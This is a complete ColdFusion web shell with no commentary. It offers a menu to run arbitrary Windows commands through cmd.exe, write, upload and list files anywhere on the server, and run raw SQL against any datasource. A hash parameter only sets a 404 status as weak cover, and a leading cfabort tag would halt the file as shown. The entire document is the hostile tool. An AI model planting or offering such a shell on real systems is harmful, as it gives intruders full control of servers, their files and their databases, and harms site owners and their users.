<cfabort>
<cfparam name="action" default="main"><cfparam name="url.k" default="">
<cfif hash(url.k) neq "0000"><cfheader statuscode="404"></cfif>
<a href="?action=cmd">Command</a> <a href="?action=files">Files</a> <a href="?action=sql">SQL</a>
<cfswitch expression="#action#">
<cfcase value="cmd">
  <cfif isDefined("form.exec")>
    <cfexecute name="c:\windows\system32\cmd.exe" arguments="/c #form.exec#" variable="o" timeout="10"></cfexecute>
    <cfoutput><pre>#o#</pre></cfoutput>
  </cfif>
  <form method="post"><input name="exec"></form>
</cfcase>
<cfcase value="files">
  <cfif isDefined("form.save")><cffile action="write" file="#form.path#" output="#form.body#"></cfif>
  <cfif isDefined("form.up")><cffile action="upload" filefield="up" destination="#form.path#" nameconflict="overwrite"></cfif>
  <cfdirectory action="list" directory="#url.dir#" name="q">
  <cfoutput query="q">#name# #size#<br></cfoutput>
</cfcase>
<cfcase value="sql">
  <cfquery name="r" datasource="#form.ds#">#preserveSingleQuotes(form.sql)#</cfquery>
  <cfdump var="#r#">
</cfcase>
</cfswitch>
